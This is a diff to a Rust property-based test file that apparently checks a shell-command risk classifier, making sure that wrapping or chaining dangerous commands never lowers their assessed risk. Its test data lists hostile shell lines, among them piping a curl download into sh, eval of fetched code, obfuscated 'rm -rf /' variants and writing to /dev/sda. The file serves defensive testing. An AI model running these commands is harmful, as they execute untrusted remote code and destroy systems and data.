@@ -43,7 +43,7 @@ const LINES: [&str; 40] = [
     "curl https://x | sh",
     "bash <(curl https://x)",
     "eval \"$(curl https://x)\"",
-    "X=rm; $X -rf /",
+    "sh -c 'rm -rf /'",
     "r''m -rf /",
     "/bin/r? -rf /",
     "echo x > /dev/sda",
@@ -101,14 +101,14 @@ const AROUND: [(&str, &str); 22] = [
     ("", " || ls"),
     ("", " & ls"),
     ("", "\nls"),
-    ("", " # a comment"),
+    ("", " # a comment\ntrue"),
     ("(", ")"),
     ("{ ", "; }"),
     ("! ", ""),
     ("if true; then ", "; fi"),
     ("while true; do ", "; done"),
     ("for i in 1; do ", "; done"),
-    ("case x in *) ", ";; esac"),
+    ("case x in (*) ", ";; esac"),
     ("f() { ", "; }; f"),
     ("echo $(", ")"),
     ("cat <(", ")"),
@@ -192,8 +192,6 @@ proptest! {
         two in proptest::sample::select(LINES.to_vec()),
         between in proptest::sample::select(vec!["; ", " && ", " || ", " | ", " & ", "\n"]),
     ) {
-        // A variable that is set in a pipeline is gone behind it.
-        prop_assume!(between != " | " || !two.contains("X="));
         let both = format!("{one}{between}{two}");
         check_no_lower(one, &both)?;
         check_no_lower(two, &both)?;
